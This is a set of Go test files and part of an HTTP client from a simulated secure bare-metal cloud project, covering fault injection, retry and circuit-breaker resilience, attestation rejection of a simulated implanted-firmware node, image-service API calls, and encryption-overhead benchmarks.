// replay of the same call pattern must fault identically, and a second
// seed must differ.
func TestDeterministicAcrossInterleavings(t *testing.T) {
	profile := Profile{ErrorRate: 0.3}

	serial := New(42)
	serial.Set("hil", profile)
	want := callOutcomes(serial, false)

	var faulted int
	for _, f := range want {
		if f {
			faulted++
		}
	}
	if faulted == 0 || faulted == len(want) {
		t.Fatalf("degenerate fault pattern: %d/%d faulted", faulted, len(want))
	}

	for i := 0; i < 4; i++ {
		par := New(42)
		par.Set("hil", profile)
		if got := callOutcomes(par, true); fmt.Sprint(got) != fmt.Sprint(want) {
			for k, v := range want {
				if got[k] != v {
					t.Fatalf("run %d: outcome for %s = %v, want %v", i, k, got[k], v)
				}
			}
		}
	}

	other := New(43)
	other.Set("hil", profile)
	if got := callOutcomes(other, false); fmt.Sprint(got) == fmt.Sprint(want) {
		t.Fatal("different seed produced an identical fault pattern")
	}
}

// TestRetryWalksOutOfStreak: an operation's attempt counter advances on
// every call, so a bounded retry loop eventually rolls a non-faulting
// attempt — failure streaks are finite by construction at any rate < 1.
func TestRetryWalksOutOfStreak(t *testing.T) {
	inj := New(7)
	inj.Set("bmi", Profile{ErrorRate: 0.9})
	for k := 0; k < 8; k++ {
		key := fmt.Sprintf("img-%d", k)
		ok := false
		for a := 0; a < 100; a++ {
			if err := inj.do(context.Background(), "bmi", "CloneImage", key, func() error { return nil }); err == nil {
				ok = true
				break
			}
		}
		if !ok {
			t.Fatalf("key %s never escaped the 0.9-rate streak in 100 attempts", key)
		}
	}
}

// TestTornPerformsThenFails: a torn response applies the side effect
// and still surfaces an error with the response lost — the classic
// retry hazard the resilience layer must survive.
func TestTornPerformsThenFails(t *testing.T) {
	inj := New(1)
	inj.Set("registrar", Profile{TornRate: 1})
	performed := 0
	err := inj.do(context.Background(), "registrar", "Register", "uuid-1", func() error {
		performed++
		return nil
	})
	var fe *Error
	if !errors.As(err, &fe) || fe.Kind != KindTorn {
		t.Fatalf("err = %v, want injected torn fault", err)
	}
	if performed != 1 {
		t.Fatalf("inner call performed %d times, want 1", performed)
	}
	// do1 must not leak the inner value alongside the error.
	v, err := do1(inj, context.Background(), "registrar", "AIK", "uuid-1", func() (int, error) { return 99, nil })
	if err == nil || v != 0 {
		t.Fatalf("do1 torn = (%v, %v), want zero value and error", v, err)
	}
	if !fe.Transient() {
		t.Fatal("injected fault must classify transient")
	}
}

// TestCrashAfterAndRevive: crash-at-step fails every call past the
// threshold until Revive, after which calls flow and stay up.
func TestCrashAfterAndRevive(t *testing.T) {
	inj := New(5)
	inj.Set("driver", Profile{CrashAfter: 2})
	ok := func() error {
		return inj.do(context.Background(), "driver", "Boot", "node-1", func() error { return nil })
	}
	if err := ok(); err != nil {
		t.Fatalf("call 1: %v", err)
	}
	if err := ok(); err != nil {
		t.Fatalf("call 2: %v", err)
	}
	for i := 0; i < 3; i++ {
		var fe *Error
		if err := ok(); !errors.As(err, &fe) || fe.Kind != KindCrash {
			t.Fatalf("post-crash call %d = %v, want KindCrash", i, err)
		}
	}
	inj.Revive("driver")
	if err := ok(); err != nil {
		t.Fatalf("call after revive: %v", err)
	}
	if st := inj.StatsFor("driver"); st.Injected[KindCrash] != 3 || st.Calls != 6 {
		t.Fatalf("stats = %+v", st)
	}
}

// TestHangReleases: a hung call parks until its context ends (or the
// injector closes) and then fails with KindHang — it never blocks
// forever and never succeeds.
func TestHangReleases(t *testing.T) {
	inj := New(9)
	inj.Set("hil", Profile{HangRate: 1})

	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
	defer cancel()
	start := time.Now()
	err := inj.do(ctx, "hil", "PowerOn", "node-1", func() error { return nil })
	var fe *Error
	if !errors.As(err, &fe) || fe.Kind != KindHang {
		t.Fatalf("err = %v, want KindHang", err)
	}
	if time.Since(start) > 5*time.Second {
		t.Fatal("hang did not release on context end")
	}

	// A context-free call (registrar-style) releases on Close.
	done := make(chan error, 1)
	go func() {
		done <- inj.do(context.Background(), "hil", "PowerOff", "node-1", func() error { return nil })
	}()
	time.Sleep(10 * time.Millisecond)
	inj.Close()
	select {
	case err := <-done:
		if !errors.As(err, &fe) || fe.Kind != KindHang {
			t.Fatalf("err after close = %v, want KindHang", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("hung call not released by Close")
	}
}
