package core

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"bolted/internal/firmware"
	"bolted/internal/tpm"
)

// transientErr is a self-classifying transient failure, the shape every
// service client's timeout/transport errors take.
type transientErr struct{ msg string }

func (e *transientErr) Error() string   { return e.msg }
func (e *transientErr) Transient() bool { return true }

// fatalErr classifies as fatal: retrying must not happen.
type fatalErr struct{ msg string }

func (e *fatalErr) Error() string { return e.msg }

// downHIL embeds a real HIL service and fails FreeNodes for a
// configured number of calls (-1 = until healed) — the minimal flaky
// backend for retry and breaker tests.
type downHIL struct {
	HILService
	mu            sync.Mutex
	failRemaining int
	calls         int
}

// failNext arms the next n FreeNodes calls to fail; -1 fails every call
// until the next failNext(0).
func (f *downHIL) failNext(n int) {
	f.mu.Lock()
	f.failRemaining = n
	f.mu.Unlock()
}

func (f *downHIL) FreeNodes() ([]string, error) {
	f.mu.Lock()
	f.calls++
	fail := f.failRemaining != 0
	if f.failRemaining > 0 {
		f.failRemaining--
	}
	f.mu.Unlock()
	if fail {
		return nil, &transientErr{"hil: connection reset"}
	}
	return f.HILService.FreeNodes()
}

func (f *downHIL) callCount() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.calls
}

// flakyAirlockHIL fails airlock-network creation with transient errors
// while armed, leaving every other HIL op healthy.
type flakyAirlockHIL struct {
	HILService
	mu   sync.Mutex
	fail bool
}

func (f *flakyAirlockHIL) setFail(v bool) {
	f.mu.Lock()
	f.fail = v
	f.mu.Unlock()
}

func (f *flakyAirlockHIL) CreateNetwork(ctx context.Context, project, name string) error {
	f.mu.Lock()
	fail := f.fail
	f.mu.Unlock()
	if fail && strings.HasPrefix(name, "airlock-") {
		return &transientErr{"hil: transient glitch creating " + name}
	}
	return f.HILService.CreateNetwork(ctx, project, name)
}

// flakyAttestDriver fails ExpectedBootPCRs with transient errors — the
// attest phase runs that call while holding an airlock slot, so it puts
// the retry loop exactly inside the slot hold. Closes entered on the
// first faulted call.
type flakyAttestDriver struct {
	NodeDriver
	mu      sync.Mutex
	fail    bool
	entered chan struct{}
}

func (d *flakyAttestDriver) setFail(v bool) {
	d.mu.Lock()
	d.fail = v
	d.mu.Unlock()
}

func (d *flakyAttestDriver) ExpectedBootPCRs(ctx context.Context, node string) (map[int][]tpm.Digest, error) {
	d.mu.Lock()
	fail := d.fail
	if fail && d.entered != nil {
		close(d.entered)
		d.entered = nil
	}
	d.mu.Unlock()
	if fail {
		return nil, &transientErr{"driver: transient glitch reading PCR whitelist"}
	}
	return d.NodeDriver.ExpectedBootPCRs(ctx, node)
}

func TestTransientClassification(t *testing.T) {
	cases := []struct {
		err  error
		want bool
	}{
		{&transientErr{"timeout"}, true},
		{context.DeadlineExceeded, true},
		{&fatalErr{"bad request"}, false},
		{context.Canceled, false},
		{ErrDegraded, false},
		{nil, false},
	}
	for _, c := range cases {
		if got := TransientError(c.err); got != c.want {
			t.Errorf("TransientError(%v) = %v, want %v", c.err, got, c.want)
		}
	}
}

// TestRetriesAbsorbTransientFaults: a bounded retry outlasts a finite
// failure streak without surfacing the error to the caller.
func TestRetriesAbsorbTransientFaults(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	hil := &downHIL{HILService: c.HIL}
	c.HIL = hil
	if err := c.EnableResilience(ResiliencePolicy{
		MaxAttempts:      4,
		RetryBackoff:     time.Millisecond,
		BackoffCap:       2 * time.Millisecond,
		BreakerThreshold: 100,
	}); err != nil {
		t.Fatal(err)
	}
	// Two transient failures, then healthy: attempt 3 of 4 lands.
	hil.failNext(2)
	if _, err := c.HIL.FreeNodes(); err != nil {
		t.Fatalf("retries did not absorb the streak: %v", err)
	}
	if got := hil.callCount(); got != 3 {
		t.Fatalf("backend saw %d calls, want 3 (two faulted + one landed)", got)
	}
	if c.Degraded() {
		t.Fatal("cloud degraded after a recovered streak")
	}

	// A streak longer than the budget surfaces the transient error.
	hil.failNext(-1)
	if _, err := c.HIL.FreeNodes(); !TransientError(err) {
		t.Fatalf("exhausted retries returned %v, want the transient fault", err)
	}
	if got := hil.callCount(); got != 7 {
		t.Fatalf("backend saw %d calls, want 7 (budget of 4 more)", got)
	}
}

// TestBreakerTripsDegradesAndRecovers is the full breaker arc: enough
// consecutive transient failures trip the breaker, calls then fail fast
// with a typed DegradedError and the manager refuses new acquires, and
// after the cooldown one successful probe closes the breaker again.
func TestBreakerTripsDegradesAndRecovers(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	hil := &downHIL{HILService: c.HIL}
	c.HIL = hil
	if err := c.EnableResilience(ResiliencePolicy{
		MaxAttempts:      1, // one failure per call: deterministic breaker counting
		RetryBackoff:     time.Millisecond,
		BreakerThreshold: 3,
		BreakerCooldown:  50 * time.Millisecond,
	}); err != nil {
		t.Fatal(err)
	}
	m := NewManager(c)
	if _, err := m.CreateEnclave("tenant", ProfileBob); err != nil {
		t.Fatal(err)
	}

	hil.failNext(-1)
	for i := 0; i < 3; i++ {
		if _, err := c.HIL.FreeNodes(); err == nil {
			t.Fatalf("call %d unexpectedly succeeded", i)
		}
	}
	if !c.Degraded() {
		t.Fatal("breaker did not trip after threshold failures")
	}
	h := c.Health()
	if !h.Degraded || h.Backends[BackendHIL].State != BreakerOpen || h.Backends[BackendHIL].Trips != 1 {
		t.Fatalf("health = %+v", h)
	}

	// Open breaker: calls fail fast with the typed error, without
	// touching the backend.
	before := hil.callCount()
	_, err := c.HIL.FreeNodes()
	var de *DegradedError
	if !errors.As(err, &de) || de.Backend != BackendHIL || !errors.Is(err, ErrDegraded) {
		t.Fatalf("open-breaker call = %v, want DegradedError(hil)", err)
	}
	if hil.callCount() != before {
		t.Fatal("open breaker still forwarded the call to the backend")
	}

	// The manager fails new acquires fast while degraded.
	if _, err := m.StartAcquire("tenant", "fedora28", 1); !errors.Is(err, ErrDegraded) {
		t.Fatalf("StartAcquire while degraded = %v, want ErrDegraded", err)
	}

	// Cooldown elapses, the backend heals, and the next call is the
	// half-open probe that closes the breaker.
	hil.failNext(0)
	time.Sleep(60 * time.Millisecond)
	if _, err := c.HIL.FreeNodes(); err != nil {
		t.Fatalf("half-open probe failed: %v", err)
	}
	if c.Degraded() {
		t.Fatal("breaker still open after successful probe")
	}
	if st := c.Health().Backends[BackendHIL].State; st != BreakerClosed {
		t.Fatalf("post-probe breaker state = %s", st)
	}
	if _, err := m.StartAcquire("tenant", "fedora28", 1); err != nil {
		t.Fatalf("StartAcquire after recovery = %v", err)
	}
}

// TestQuoteMismatchRejectsImmediately: an attestation-quote mismatch is
// a trust verdict, not a service fault — the node is rejected without
// retry and the failure never counts toward a circuit breaker, even at
// a breaker threshold of 1.
func TestQuoteMismatchRejectsImmediately(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	if err := c.EnableResilience(ResiliencePolicy{
		MaxAttempts:      4,
		RetryBackoff:     time.Millisecond,
		BreakerThreshold: 1, // any counted failure would trip it
	}); err != nil {
		t.Fatal(err)
	}
	e, err := NewEnclave(c, "tenant", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	// A previous tenant implanted node02's firmware.
	m, err := c.Machine("node01")
	if err != nil {
		t.Fatal(err)
	}
	evil := firmware.BuildLinuxBoot("heads-v1.0", []byte("implanted heads"))
	m.ReflashFirmware(firmware.NewLinuxBoot(evil, "m620"))

	res, err := e.AcquireNodes(context.Background(), "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Nodes) != 1 || len(res.Failed) != 1 {
		t.Fatalf("nodes=%d failed=%v", len(res.Nodes), res.Failed)
	}
	if res.Failed[0].Node != "node01" || res.Failed[0].Phase != PhaseAttest {
		t.Fatalf("failed = %v, want node01 at %s", res.Failed, PhaseAttest)
	}
	if c.Degraded() {
		t.Fatal("a quote mismatch tripped a breaker into degraded mode")
	}
	for backend, bh := range c.Health().Backends {
		if bh.Failures != 0 || bh.Trips != 0 {
			t.Fatalf("%s breaker counted the trust verdict: %+v", backend, bh)
		}
	}
}

// TestCancelMidRetryReleasesAirlock (race-clean): a node stuck in a
// transient-fault retry loop inside the attest phase holds an airlock
// slot; when the caller cancels, the node must come back aborted
// (healthy, returned to the free pool) — never rejected — and the slot
// must return to the scheduler.
func TestCancelMidRetryReleasesAirlock(t *testing.T) {
	c := testCloud(t, 1, FirmwareLinuxBoot)
	drv := &flakyAttestDriver{NodeDriver: c.Driver, entered: make(chan struct{})}
	entered := drv.entered
	c.Driver = drv
	if err := c.EnableResilience(ResiliencePolicy{
		MaxAttempts:      1_000, // effectively endless: only the cancel ends the loop
		RetryBackoff:     5 * time.Millisecond,
		BackoffCap:       10 * time.Millisecond,
		BreakerThreshold: 1_000_000,
	}); err != nil {
		t.Fatal(err)
	}
	e, err := NewEnclave(c, "tenant", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	drv.setFail(true)

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan *BatchResult, 1)
	go func() {
		res, err := e.AcquireNodes(ctx, "fedora28", 1)
		if err == nil {
			err = errors.New("cancelled batch returned nil error")
		}
		if !errors.Is(err, context.Canceled) {
			t.Errorf("AcquireNodes = %v, want context.Canceled", err)
		}
		done <- res
	}()
	<-entered // the node is now retrying inside its airlock-slot hold
	time.Sleep(15 * time.Millisecond)
	cancel()

	res := <-done
	if res == nil {
		t.FailNow()
	}
	if len(res.Aborted) != 1 || len(res.Failed) != 0 || len(res.Nodes) != 0 {
		t.Fatalf("aborted=%v failed=%v nodes=%d (a cancelled transient retry must abort, not reject)",
			res.Aborted, res.Failed, len(res.Nodes))
	}
	if got := c.Scheduler().Stats().InUse; got != 0 {
		t.Fatalf("airlock slots still held after cancel: in_use=%d", got)
	}
	if len(c.Rejected()) != 0 {
		t.Fatalf("healthy node spuriously rejected: %v", c.Rejected())
	}
	drv.setFail(false)
	if free, err := c.HIL.FreeNodes(); err != nil || len(free) != 1 {
		t.Fatalf("aborted node not returned to the free pool: %v, %v", free, err)
	}
}

// TestPhaseDeadlineRejectsHungNode: a phase that cannot finish inside
// the configured deadline fails that node (rejected, not wedged) while
// the caller's own context stays alive.
func TestPhaseDeadlineRejectsHungNode(t *testing.T) {
	c := testCloud(t, 1, FirmwareLinuxBoot)
	hil := &flakyAirlockHIL{HILService: c.HIL}
	c.HIL = hil
	if err := c.EnableResilience(ResiliencePolicy{
		MaxAttempts:      1_000,
		RetryBackoff:     5 * time.Millisecond,
		BackoffCap:       10 * time.Millisecond,
		BreakerThreshold: 1_000_000,
		PhaseDeadline:    80 * time.Millisecond,
	}); err != nil {
		t.Fatal(err)
	}
	e, err := NewEnclave(c, "tenant", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	hil.setFail(true)

	res, err := e.AcquireNodes(context.Background(), "fedora28", 1)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Failed) != 1 || res.Failed[0].Phase != PhaseAirlock {
		t.Fatalf("failed = %v, want one airlock-phase rejection", res.Failed)
	}
	if !errors.Is(res.Failed[0].Err, context.DeadlineExceeded) {
		t.Fatalf("failure cause = %v, want DeadlineExceeded", res.Failed[0].Err)
	}
	if got := c.Scheduler().Stats().InUse; got != 0 {
		t.Fatalf("airlock slots still held after deadline: in_use=%d", got)
	}
}

// TestReclaimRejected: the operator's scrub-and-return path moves a
// rejected node back to the provider's free pool and journals the
// recovery; anything not in the rejected pool is refused.
func TestReclaimRejected(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	e, err := NewEnclave(c, "tenant", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	m, err := c.Machine("node01")
	if err != nil {
		t.Fatal(err)
	}
	evil := firmware.BuildLinuxBoot("heads-v1.0", []byte("implanted heads"))
	m.ReflashFirmware(firmware.NewLinuxBoot(evil, "m620"))
	res, err := e.AcquireNodes(context.Background(), "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Nodes) != 1 || len(res.Failed) != 1 || res.Failed[0].Node != "node01" {
		t.Fatalf("setup: nodes=%d failed=%v", len(res.Nodes), res.Failed)
	}

	ctx := context.Background()
	// A live member and an unknown node are both refused.
	if err := e.ReclaimRejected(ctx, "node00"); !errors.Is(err, ErrConflict) {
		t.Fatalf("reclaim of live member = %v, want ErrConflict", err)
	}
	if err := e.ReclaimRejected(ctx, "ghost"); !errors.Is(err, ErrConflict) {
		t.Fatalf("reclaim of unknown node = %v, want ErrConflict", err)
	}
	if _, err := c.ReclaimRejected(ctx, "ghost"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("provider reclaim of unknown node = %v, want ErrNotFound", err)
	}

	// The real reclaim: node01 leaves the rejected pool, returns to the
	// free pool, and the journal records the recovery with its reason.
	if err := e.ReclaimRejected(ctx, "node01"); err != nil {
		t.Fatal(err)
	}
	if rej := c.Rejected(); len(rej) != 0 {
		t.Fatalf("rejected pool after reclaim = %v", rej)
	}
	if st := e.NodeState("node01"); st != StateFree {
		t.Fatalf("node01 state = %s, want %s", st, StateFree)
	}
	free, err := c.HIL.FreeNodes()
	if err != nil || len(free) != 1 || free[0] != "node01" {
		t.Fatalf("free pool = %v, %v", free, err)
	}
	var reclaimed bool
	for _, ev := range e.Journal().Events() {
		if ev.Kind == EvReclaimed && ev.Node == "node01" {
			reclaimed = true
			if !strings.Contains(ev.Detail, "was:") {
				t.Fatalf("reclaim event lost the rejection reason: %q", ev.Detail)
			}
		}
	}
	if !reclaimed {
		t.Fatal("no reclaimed event journaled")
	}

	// Reclaiming twice is a conflict: the node is free now.
	if err := e.ReclaimRejected(ctx, "node01"); !errors.Is(err, ErrConflict) {
		t.Fatalf("second reclaim = %v, want ErrConflict", err)
	}
}
