package bmi

import (
	"bytes"
	"net/http/httptest"
	"testing"
)

func TestHTTPAPI(t *testing.T) {
	s := newBMI(t)
	srv := httptest.NewServer(NewHandler(s))
	defer srv.Close()
	c := NewClient(srv.URL)

	if err := c.CreateOSImage("fedora", testSpec()); err != nil {
		t.Fatal(err)
	}
	if err := c.CreateImage("scratch", 1<<20); err != nil {
		t.Fatal(err)
	}
	if err := c.CreateImage("scratch", 1<<20); err == nil {
		t.Fatal("duplicate create over HTTP accepted")
	}
	imgs, err := c.ListImages()
	if err != nil || len(imgs) != 2 {
		t.Fatalf("ListImages = %v, %v", imgs, err)
	}
	bi, err := c.ExtractBootInfo("fedora")
	if err != nil {
		t.Fatal(err)
	}
	spec := testSpec()
	if bi.KernelID != spec.KernelID || !bytes.Equal(bi.Kernel, spec.Kernel) {
		t.Fatalf("boot info over HTTP corrupted: %+v", bi.KernelID)
	}
	if _, err := c.ExtractBootInfo("scratch"); err == nil {
		t.Fatal("boot info from raw image accepted")
	}
	if err := c.CloneImage("fedora", "fedora2"); err != nil {
		t.Fatal(err)
	}
	if err := c.SnapshotImage("fedora", "fedora@v1"); err != nil {
		t.Fatal(err)
	}
	img, err := s.GetImage("fedora@v1")
	if err != nil || !img.Snapshot {
		t.Fatal("snapshot flag lost over HTTP")
	}
	if err := c.DeleteImage("fedora2"); err != nil {
		t.Fatal(err)
	}
	if err := c.DeleteImage("ghost"); err == nil {
		t.Fatal("delete of missing image over HTTP accepted")
	}
}
