package workload

import (
	"runtime"
	"testing"
	"time"

	"bolted/internal/blockdev"
	"bolted/internal/ima"
	"bolted/internal/ipsec"
	"bolted/internal/luks"
	"bolted/internal/tpm"
)

func TestFigure7Shapes(t *testing.T) {
	ipsec := SecConfig{IPsec: true}
	both := SecConfig{LUKS: true, IPsec: true}
	luks := SecConfig{LUKS: true}

	// Paper §7.5: EP ~18% under IPsec; CG ~200%; TeraSort ~30% under
	// LUKS+IPsec; Filebench-VM ~50% under IPsec.
	if d := AppEP.Degradation(ipsec); d < 0.10 || d > 0.30 {
		t.Errorf("EP IPsec = %.0f%%, want ~18%%", d*100)
	}
	if d := AppCG.Degradation(ipsec); d < 1.5 || d > 2.5 {
		t.Errorf("CG IPsec = %.0f%%, want ~200%%", d*100)
	}
	if d := AppTeraSort.Degradation(both); d < 0.20 || d > 0.45 {
		t.Errorf("TeraSort LUKS+IPsec = %.0f%%, want ~30%%", d*100)
	}
	if d := AppFilebenchVM.Degradation(ipsec); d < 0.35 || d > 0.70 {
		t.Errorf("Filebench-VM IPsec = %.0f%%, want ~50%%", d*100)
	}
	// Orderings: CG (communication-bound) suffers the most of the MPI
	// suite; EP the least.
	for _, a := range []App{AppFT, AppMG} {
		if AppCG.Degradation(ipsec) <= a.Degradation(ipsec) {
			t.Errorf("CG should degrade more than %s under IPsec", a.Name)
		}
		if AppEP.Degradation(ipsec) >= a.Degradation(ipsec) {
			t.Errorf("EP should degrade less than %s under IPsec", a.Name)
		}
	}
	// LUKS alone is cheap for every app (no app is write-bound enough
	// to suffer): the "value for customers that trust the provider" is
	// avoiding IPsec, not LUKS.
	for _, a := range Figure7Apps {
		if d := a.Degradation(luks); d > 0.10 {
			t.Errorf("%s LUKS = %.0f%%, want < 10%%", a.Name, d*100)
		}
		// Security never speeds things up.
		for _, sec := range AllSecConfigs {
			if a.Degradation(sec) < 0 {
				t.Errorf("%s %v: negative degradation", a.Name, sec)
			}
		}
		// LUKS+IPsec is at least as slow as IPsec alone.
		if a.Degradation(both) < a.Degradation(ipsec)-1e-9 {
			t.Errorf("%s: LUKS+IPsec faster than IPsec", a.Name)
		}
	}
}

func TestMsgTimeRegimes(t *testing.T) {
	// Small messages pay per-packet cost under IPsec.
	smallPlain := msgTime(4<<10, false)
	smallIPsec := msgTime(4<<10, true)
	if ratio := float64(smallIPsec) / float64(smallPlain); ratio < 2.5 {
		t.Errorf("small-message IPsec ratio = %.1f, want > 2.5 (latency-bound)", ratio)
	}
	// Bulk messages degrade by roughly the bandwidth ratio.
	bulkPlain := msgTime(32<<20, false)
	bulkIPsec := msgTime(32<<20, true)
	ratio := float64(bulkIPsec) / float64(bulkPlain)
	if ratio < 1.8 || ratio > 2.6 {
		t.Errorf("bulk IPsec ratio = %.1f, want ~10/4.5", ratio)
	}
	if msgTime(0, true) != 0 {
		t.Error("zero-byte message has nonzero cost")
	}
}

func TestKernelCompileRealWork(t *testing.T) {
	spec := CompileSpec{Files: 200, FileBytes: 4 << 10, Threads: 4, WorkFactor: 10}
	res := RunKernelCompile(spec)
	if res.Files != 200 || res.Wall <= 0 {
		t.Fatalf("result = %+v", res)
	}
	if res.Measured != 0 {
		t.Fatal("measurements taken without IMA")
	}
}

func TestKernelCompileIMAMeasuresEveryFile(t *testing.T) {
	tp, err := tpm.New()
	if err != nil {
		t.Fatal(err)
	}
	col := ima.NewCollector(tp, ima.StressPolicy)
	spec := CompileSpec{Files: 300, FileBytes: 4 << 10, Threads: 8, WorkFactor: 10, IMA: col}
	res := RunKernelCompile(spec)
	if res.Measured != 300 {
		t.Fatalf("measured %d files, want 300", res.Measured)
	}
	if col.Len() != 300 {
		t.Fatalf("collector has %d entries", col.Len())
	}
	// The measurement list is anchored: replay matches PCR 10.
	want, _ := tp.PCRValue(ima.PCR)
	if ima.ReplayAggregate(col.List()) != want {
		t.Fatal("IMA aggregate does not match PCR10 after parallel build")
	}
}

func TestKernelCompileScalesWithThreads(t *testing.T) {
	if runtime.NumCPU() < 2 {
		t.Skip("thread-scaling needs at least 2 CPUs")
	}
	spec1 := CompileSpec{Files: 400, FileBytes: 8 << 10, Threads: 1, WorkFactor: 20}
	spec8 := spec1
	spec8.Threads = 8
	t1 := RunKernelCompile(spec1).Wall
	t8 := RunKernelCompile(spec8).Wall
	if float64(t1)/float64(t8) < 1.5 {
		t.Errorf("8 threads (%v) not meaningfully faster than 1 (%v)", t8, t1)
	}
}

func TestFilebenchRuns(t *testing.T) {
	disk, err := blockdev.NewRAMDisk(32 << 20)
	if err != nil {
		t.Fatal(err)
	}
	spec := DefaultFilebenchSpec()
	res, err := RunFilebench(disk, spec)
	if err != nil {
		t.Fatal(err)
	}
	if res.Errors != 0 {
		t.Fatalf("%d operation errors", res.Errors)
	}
	if res.BytesRead == 0 || res.BytesWrit == 0 {
		t.Fatalf("no I/O performed: %+v", res)
	}
	if res.OpsPerSecond() <= 0 {
		t.Fatal("nonpositive throughput")
	}
}

func TestFilebenchOverEncryptedStacks(t *testing.T) {
	// The Figure-7 VM experiment's real data path: the same workload
	// over plain, LUKS, and NBD+IPsec+LUKS stacks all complete
	// error-free; the encrypted stacks are not faster than plain.
	spec := DefaultFilebenchSpec()
	spec.Ops = 80
	spec.Files = 20
	spec.FileBytes = 16 << 10

	mkPlain := func() blockdev.Device {
		d, _ := blockdev.NewRAMDisk(32 << 20)
		return d
	}
	mkLUKS := func() blockdev.Device {
		d, _ := blockdev.NewRAMDisk(32 << 20)
		v, err := luks.FormatWithIterations(d, []byte("k"), 16)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	mkFull := func() blockdev.Device {
		d, _ := blockdev.NewRAMDisk(32 << 20)
		tr, err := blockdev.NewIPsecTransport(blockdev.Loopback{Target: blockdev.NewTarget(d)}, ipsec.SuiteHWAES, 9000)
		if err != nil {
			t.Fatal(err)
		}
		// Small random file I/O wants the small read-ahead (the 8 MiB
		// window is a sequential-read optimization, Fig 3c).
		client, err := blockdev.NewClient(tr, blockdev.DefaultReadAhead)
		if err != nil {
			t.Fatal(err)
		}
		v, err := luks.FormatWithIterations(client, []byte("k"), 16)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	var plainWall time.Duration
	for _, stack := range []struct {
		name string
		mk   func() blockdev.Device
	}{{"plain", mkPlain}, {"luks", mkLUKS}, {"nbd+ipsec+luks", mkFull}} {
		res, err := RunFilebench(stack.mk(), spec)
		if err != nil {
			t.Fatalf("%s: %v", stack.name, err)
		}
		if res.Errors != 0 {
			t.Fatalf("%s: %d errors", stack.name, res.Errors)
		}
		if stack.name == "plain" {
			plainWall = res.Wall
		} else if res.Wall < plainWall/4 {
			t.Errorf("%s (%v) implausibly faster than plain (%v)", stack.name, res.Wall, plainWall)
		}
	}
}

func TestFilebenchValidation(t *testing.T) {
	disk, _ := blockdev.NewRAMDisk(1 << 20)
	spec := DefaultFilebenchSpec()
	spec.ReadPct = 99 // mix no longer sums to 100
	if _, err := RunFilebench(disk, spec); err == nil {
		t.Fatal("bad mix accepted")
	}
}

// The Figure-6 claim: IMA overhead on a compile is small even under the
// stress policy.
func TestIMAOverheadSmall(t *testing.T) {
	if testing.Short() {
		t.Skip("timing-sensitive")
	}
	spec := CompileSpec{Files: 600, FileBytes: 8 << 10, Threads: 4, WorkFactor: 30}
	base := RunKernelCompile(spec).Wall

	tp, _ := tpm.New()
	spec.IMA = ima.NewCollector(tp, ima.StressPolicy)
	withIMA := RunKernelCompile(spec).Wall

	overhead := float64(withIMA-base) / float64(base)
	if overhead > 0.25 {
		t.Errorf("IMA overhead = %.0f%%, want small (paper: negligible)", overhead*100)
	}
}
