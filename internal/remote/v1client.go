package remote

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"

	"bolted/internal/core"
	"bolted/internal/hil"
)

// V1Client is the typed binding for the /v1 tenant control plane: the
// enclave, acquisition and operation resources as Go calls, with wire
// error envelopes decoded back into the same sentinel errors the
// in-process API returns (errors.Is works identically against either
// surface).
type V1Client struct {
	base string
	http *http.Client
}

// NewV1Client returns a control-plane client for a boltedd base URL
// (the /v1 prefix is implied).
func NewV1Client(serverURL string) *V1Client {
	return &V1Client{base: trimBase(serverURL) + prefixV1, http: http.DefaultClient}
}

func trimBase(u string) string {
	for len(u) > 0 && u[len(u)-1] == '/' {
		u = u[:len(u)-1]
	}
	return u
}

// decodeV1Error turns a non-2xx response into the sentinel the server
// mapped from, so client code branches with errors.Is exactly as it
// would in process.
func decodeV1Error(resp *http.Response) error {
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
	var env errorEnvelope
	if err := json.Unmarshal(body, &env); err != nil || env.Error.Code == "" {
		return fmt.Errorf("remote: %s: %s", resp.Status, bytes.TrimSpace(body))
	}
	msg := env.Error.Message
	wrap := func(sentinel error) error {
		// The server-side message usually already starts with the
		// sentinel's own text; don't print it twice.
		if rest, ok := strings.CutPrefix(msg, sentinel.Error()); ok {
			return fmt.Errorf("%w%s", sentinel, rest)
		}
		return fmt.Errorf("%w: %s", sentinel, msg)
	}
	switch env.Error.Code {
	case codeNotFound:
		return wrap(core.ErrNotFound)
	case codeExists:
		return wrap(core.ErrExists)
	case codeConflict:
		return wrap(core.ErrConflict)
	case codeUnauthorized:
		return wrap(hil.ErrUnauthorized)
	default:
		return fmt.Errorf("remote: %s: %s", env.Error.Code, msg)
	}
}

// do runs one control-plane request; out (when non-nil) receives the
// decoded 2xx body.
func (c *V1Client) do(ctx context.Context, method, path string, body, out interface{}) error {
	var rd io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			return err
		}
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequestWithContext(ctx, method, c.base+path, rd)
	if err != nil {
		return err
	}
	if rd != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode >= 400 {
		return decodeV1Error(resp)
	}
	if out != nil {
		return json.NewDecoder(resp.Body).Decode(out)
	}
	return nil
}

// CreateEnclave creates a named enclave under a profile ("alice",
// "bob" or "charlie").
func (c *V1Client) CreateEnclave(ctx context.Context, name, profile string) (*EnclaveInfo, error) {
	var info EnclaveInfo
